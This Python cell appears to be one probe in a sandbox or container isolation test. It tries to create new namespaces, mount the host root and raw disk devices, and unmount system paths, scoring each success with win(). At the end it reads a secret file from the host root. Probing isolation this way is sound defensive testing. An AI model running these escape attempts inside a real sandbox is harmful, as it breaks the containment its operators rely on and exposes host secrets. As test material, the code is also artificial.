"""Mounts: makes new namespaces, binds the host's folders, mounts proc, devices and overlays.

gain: host, secret
"""

# %%
import os

NEW_NAMESPACES = 0x10000000 | 0x00020000 | 0x20000000  # user, mount, pid
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x02000000, NEW_NAMESPACES):
    if LIBC.unshare(flags) == 0:
        win()
os.makedirs("there", exist_ok=True)
for source, kind, flags in (
    (b"/", b"none", 4096),
    (b"proc", b"proc", 0),
    (b"/dev/sda1", b"ext4", 1),
    (b"tmpfs", b"tmpfs", 0),
    (b"overlay", b"overlay", 0),
    (b"/dev/vda", b"ext4", 1),
):
    if LIBC.mount(source, b"there", kind, flags, b"") == 0:
        win()
for path in (b"/", b"/usr", b"/proc", b"/room"):
    if LIBC.umount2(path, 2) == 0 or LIBC.mount(b"none", path, None, 32, None) == 0:
        win()
read("there" + HOST["root"] + "/secret.txt")
